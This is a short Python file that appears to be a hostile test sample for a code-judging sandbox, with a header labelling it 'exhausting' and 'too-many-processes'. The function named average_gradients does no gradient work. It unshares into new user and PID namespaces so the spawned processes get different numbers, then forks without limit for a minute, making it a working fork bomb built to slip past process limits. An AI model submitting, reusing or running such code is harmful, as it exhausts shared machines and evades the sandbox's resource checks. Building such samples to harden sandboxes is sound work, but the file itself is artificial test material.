# exercise: average_gradients
# family: exhausting
# verdict: too-many-processes
# without: stub
# protection: judge
# why: the same in a process namespace of its own, where it can be made, so that the processes have other numbers
import ctypes
import os
import time

CLONE_NEWUSER, CLONE_NEWPID = 0x10000000, 0x20000000
END = time.monotonic() + 60


def average_gradients(model):
    if not os.fork():  # a process with one thread may
        ctypes.CDLL(None, use_errno=True).unshare(CLONE_NEWUSER | CLONE_NEWPID)
    while time.monotonic() < END:
        try:
            os.fork()
        except OSError:
            pass
    os._exit(0)
